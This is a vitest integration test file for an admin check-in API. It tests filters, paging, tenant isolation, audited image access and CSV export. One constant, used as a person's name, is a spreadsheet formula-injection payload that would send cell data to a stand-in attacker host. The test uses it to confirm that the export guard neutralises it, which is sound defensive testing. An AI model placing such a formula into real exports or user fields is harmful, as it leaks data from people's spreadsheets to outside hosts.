// GET /v1/admin/checkins, its CSV export and the check-in image, over real HTTP: filters, pages, the
// CSV injection guard, the audited image view, tenant isolation and the callers refused.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../../src/infra/db/index.js';
import { createTestApp, type TestApp } from '../support/app.js';
import { HAS_LABELLED, LABELLED_SKIP_REASON } from '../support/faces.js';
import { adminOf, loggedInUser, TestClock } from '../support/identity.js';
import { integratorOf } from '../persons/support.js';
import { facePhoto, INTERNAL_SECRET, manualCheckin, openEvent, person, registerDevice } from './support.js';

const MINUTE = 60_000;
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const COMMA = 'Silva, "Zé"';

describe('admin check-ins', () => {
  const clock = new TestClock(new Date('2026-11-21T10:00:00.000Z'));
  let t: TestApp;
  let a: Awaited<ReturnType<typeof integratorOf>>;
  let b: Awaited<ReturnType<typeof adminOf>>;
  let gala: string;
  let expo: string;
  let ana: string;
  let ids: { ana: string; bruno: string; evil: string; synced: string; other: string };
  let photo: Buffer | undefined;

  const list = (query = '', headers = a.headers) =>
    t.request('GET', `/v1/admin/checkins${query}`, { headers });

  beforeAll(async () => {
    t = await createTestApp({ clock, env: { INTERNAL_SECRET } });
    a = await integratorOf(t);
    b = await adminOf(t);
    gala = await openEvent(t, a.tenantId, 'Gala');
    expo = await openEvent(t, a.tenantId, 'Expo', 'closed');
    ana = await person(t, a.tenantId, 'Ana Souza');
    const bruno = await person(t, a.tenantId, COMMA);
    const evil = await person(t, a.tenantId, EVIL);
    const anaAt = await manualCheckin(t, a.headers, ana, gala);
    clock.advance(MINUTE);
    const brunoAt = await manualCheckin(t, a.headers, bruno, gala);
    clock.advance(MINUTE);
    const evilAt = await manualCheckin(t, a.headers, evil);

    // An offline decision uploaded ten minutes late by a kiosk, at a closed event, with its frame.
    await t.request('PATCH', `/v1/tenants/${a.tenantId}/settings`, {
      headers: a.headers,
      body: { syncCheckinImages: true },
    });
    photo = HAS_LABELLED ? await facePhoto() : undefined;
    const device = await registerDevice(t, a.headers, 'Door 1');
    const clientId = newId();
    const synced = await t.request('POST', '/v1/sync/batch', {
      headers: device.headers,
      body: {
        items: [
          {
            clientId,
            method: 'facial',
            outcome: 'success',
            personId: ana,
            eventId: expo,
            recordedAt: new Date(clock.now().getTime() - 10 * MINUTE).toISOString(),
            score: 0.81,
            livenessScore: 0.93,
            ...(photo && { frame: photo.toString('base64') }),
          },
        ],
      },
    });
    expect(synced.body.results[0].status, synced.text).toBe('accepted');

    const otherPerson = await person(t, b.tenant.tenantId, 'Other Tenant Person');
    const other = await manualCheckin(t, b.headers, otherPerson);
    ids = { ana: anaAt, bruno: brunoAt, evil: evilAt, synced: clientId, other };
  });
  afterAll(async () => {
    await t?.close();
  });

  it('lists the tenant’s check-ins newest first with their event, person and flags', async () => {
    const res = await list();
    expect(res.status, res.text).toBe(200);
    expect(res.body.items.map((c: { id: string }) => c.id)).toEqual([
      ids.evil,
      ids.bruno,
      ids.ana,
      ids.synced,
    ]);
    expect(res.body.nextCursor).toBeNull();
    const [evil, , first, synced] = res.body.items;
    expect(first).toEqual({
      id: ids.ana,
      recordedAt: '2026-11-21T10:00:00.000Z',
      receivedAt: '2026-11-21T10:00:00.000Z',
      method: 'manual',
      outcome: 'success',
      stepUp: null,
      score: null,
      livenessScore: null,
      geofenceStatus: 'not_applicable',
      flags: [],
      offline: false,
      event: { id: gala, name: 'Gala' },
      person: { id: ana, name: 'Ana Souza' },
      guestId: null,
      guest: null,
      voided: null,
      deviceId: null,
      hasImage: false,
    });
    expect(evil.event).toBeNull();
    expect(synced).toMatchObject({
      method: 'facial',
      recordedAt: '2026-11-21T09:52:00.000Z',
      receivedAt: '2026-11-21T10:02:00.000Z',
      score: 0.81,
      livenessScore: 0.93,
      offline: true,
      flags: ['offline', 'late', 'conflict', 'event_closed'],
      event: { id: expo, name: 'Expo' },
      hasImage: Boolean(photo),
    });
  });

  it('filters by event, person, method, outcome, flag and time range', async () => {
    const idsOf = async (query: string) => {
      const res = await list(query);
      expect(res.status, res.text).toBe(200);
      return res.body.items.map((c: { id: string }) => c.id);
    };
    expect(await idsOf(`?eventId=${gala}`)).toEqual([ids.bruno, ids.ana]);
    expect(await idsOf(`?personId=${ana}`)).toEqual([ids.ana, ids.synced]);
    expect(await idsOf('?method=facial')).toEqual([ids.synced]);
    expect(await idsOf('?method=manual&eventId=' + gala)).toEqual([ids.bruno, ids.ana]);
    expect(await idsOf('?outcome=denied')).toEqual([]);
    expect(await idsOf('?flag=offline')).toEqual([ids.synced]);
    expect(await idsOf('?flag=late')).toEqual([ids.synced]);
    expect(await idsOf('?flag=conflict')).toEqual([ids.synced]);
    expect(await idsOf('?flag=event_closed')).toEqual([ids.synced]);
    expect(await idsOf('?flag=capacity_reached')).toEqual([]);
    expect(await idsOf('?from=2026-11-21T10:00:00.000Z&to=2026-11-21T10:02:00.000Z')).toEqual([
      ids.bruno,
      ids.ana,
    ]);
    expect(await idsOf(`?eventId=${newId()}`)).toEqual([]);
  });

  it('pages with nextCursor, one item at a time, never repeating one', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res = await list(`?limit=1${cursor ? `&cursor=${cursor}` : ''}`);
      expect(res.status, res.text).toBe(200);
      expect(res.body.items).toHaveLength(1);
      seen.push(res.body.items[0].id);
      cursor = res.body.nextCursor;
    } while (cursor);
    expect(seen).toEqual([ids.evil, ids.bruno, ids.ana, ids.synced]);
  });

  it('refuses a cursor it did not issue, an unknown flag and an unknown parameter with 400 validation_failed', async () => {
    for (const query of ['?cursor=bm9wZQ', '?flag=sideways', '?eventid=x', '?from=yesterday']) {
      const res = await list(query);
      expect(res.status, query).toBe(400);
      expect(res.body.code).toBe('validation_failed');
    }
  });

  it('never shows another tenant’s check-ins, and a filter on another tenant’s ids finds nothing', async () => {
    const mine = await list();
    expect(mine.body.items.map((c: { id: string }) => c.id)).not.toContain(ids.other);
    const theirs = await list('', b.headers);
    expect(theirs.body.items.map((c: { id: string }) => c.id)).toEqual([ids.other]);
    expect((await list(`?eventId=${gala}`, b.headers)).body.items).toEqual([]);
  });

  it('exports the filtered check-ins as CSV with a header row, quoting and the formula guard, audited', async () => {
    const res = await t.request('GET', '/v1/admin/checkins/export.csv', { headers: a.headers });
    expect(res.status, res.text).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain('attachment');
    const lines = res.text.split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe(
      'id,recordedAt,receivedAt,method,outcome,score,livenessScore,geofenceStatus,flags,offline,eventId,' +
        'eventName,personId,personName,guestId,deviceId,hasImage,guestName,voidedAt,voidReason',
    );
    expect(lines.slice(1, -1).map((l) => l.split(',')[0])).toEqual([
      ids.evil,
      ids.bruno,
      ids.ana,
      ids.synced,
    ]);
    // The formula is neutralised (and quoted, since it holds quotes and a comma).
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(lines[2]).toContain('"Silva, ""Zé"""');
    expect(lines[4]).toContain(',offline;late;conflict;event_closed,true,');
    const filtered = await t.request('GET', `/v1/admin/checkins/export.csv?eventId=${gala}`, {
      headers: a.headers,
    });
    expect(
      filtered.text
        .split('\r\n')
        .slice(1, -1)
        .map((l) => l.split(',')[0]),
    ).toEqual([ids.bruno, ids.ana]);
    const audit = await t.deps.db.prisma.auditLog.findMany({
      where: { tenantId: a.tenantId, action: 'checkin.exported' },
      orderBy: { createdAt: 'asc' },
    });
    expect(audit).toHaveLength(2);
    expect(audit[1]!.metadata).toEqual({ filters: { eventId: gala } });
  });

  it('exports a header row only when nothing matches', async () => {
    const res = await t.request('GET', '/v1/admin/checkins/export.csv?outcome=denied', {
      headers: a.headers,
    });
    expect(res.status).toBe(200);
    expect(res.text.split('\r\n')).toHaveLength(2);
  });

  it.skipIf(!HAS_LABELLED)(
    'serves a check-in’s stored frame decrypted, never cached, and audits who viewed it',
    async () => {
      const res = await fetch(`${t.url}/v1/admin/checkins/${ids.synced}/image`, { headers: a.headers });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('image/jpeg');
      expect(res.headers.get('cache-control')).toBe('no-store');
      expect(Buffer.from(await res.arrayBuffer()).equals(photo!)).toBe(true);
      const user = await t.deps.db.prisma.user.findFirstOrThrow({ where: { tenantId: a.tenantId } });
      const audit = await t.deps.db.prisma.auditLog.findMany({
        where: { tenantId: a.tenantId, action: 'checkin.image_viewed' },
      });
      expect(audit).toHaveLength(1);
      expect(audit[0]).toMatchObject({
        actorType: 'adminSession',
        actorId: user.id,
        targetType: 'check_in',
        targetId: ids.synced,
      });
    },
  );
  it.skipIf(HAS_LABELLED)(`check-in image: ${LABELLED_SKIP_REASON}`, () => {});

  it('answers 404 for a check-in without a frame, an unknown one and another tenant’s, auditing none', async () => {
    const before = await t.deps.db.prisma.auditLog.count({ where: { action: 'checkin.image_viewed' } });
    for (const [id, headers] of [
      [ids.ana, a.headers],
      [newId(), a.headers],
      [ids.synced, b.headers],
    ] as const) {
      const res = await t.request('GET', `/v1/admin/checkins/${id}/image`, { headers });
      expect(res.status).toBe(404);
      expect(res.body.code).toBe('not_found');
    }
    expect(await t.deps.db.prisma.auditLog.count({ where: { action: 'checkin.image_viewed' } })).toBe(before);
  });

  it('refuses API keys with 403 and anonymous callers with 401', async () => {
    for (const path of [
      '/v1/admin/checkins',
      '/v1/admin/checkins/export.csv',
      '/v1/admin/checkins/stream',
      `/v1/admin/checkins/${ids.synced}/image`,
    ]) {
      const key = await t.request('GET', path, { headers: a.keyHeaders });
      expect(key.status, path).toBe(403);
      expect(key.body.code).toBe('forbidden');
      const anonymous = await t.request('GET', path);
      expect(anonymous.status, path).toBe(401);
    }
  });

  it('lets an operator read check-ins', async () => {
    const operator = await loggedInUser(t, a.tenantId, 'operator', `op-${newId()}@example.com`);
    const res = await list('', operator);
    expect(res.status).toBe(200);
    expect(res.body.items).toHaveLength(4);
  });

  // Last: it adds a check-in the other tests do not expect.
  it('marks offline only what a device decided while the cloud was unreachable', async () => {
    const device = await registerDevice(t, a.headers, 'Door 2');
    const online = newId();
    const res = await t.request('POST', '/v1/sync/batch', {
      headers: device.headers,
      body: {
        items: [
          {
            clientId: online,
            method: 'facial',
            outcome: 'success',
            personId: ana,
            eventId: expo,
            recordedAt: clock.now().toISOString(),
            decidedOffline: false,
          },
        ],
      },
    });
    expect(res.body.results[0].status, res.text).toBe('accepted');
    const listed = (await list(`?personId=${ana}`)).body.items as {
      id: string;
      offline: boolean;
      flags: string[];
    }[];
    const row = listed.find((c) => c.id === online)!;
    expect(row).toMatchObject({ offline: false, deviceId: expect.any(String) });
    expect(row.flags).not.toContain('offline');
    // The upload of the beforeAll, from an agent that did not say, stays offline.
    expect(listed.find((c) => c.id === ids.synced)).toMatchObject({ offline: true });
    const offline = (await list('?flag=offline')).body.items.map((c: { id: string }) => c.id);
    expect(offline).toEqual([ids.synced]);
  });
});
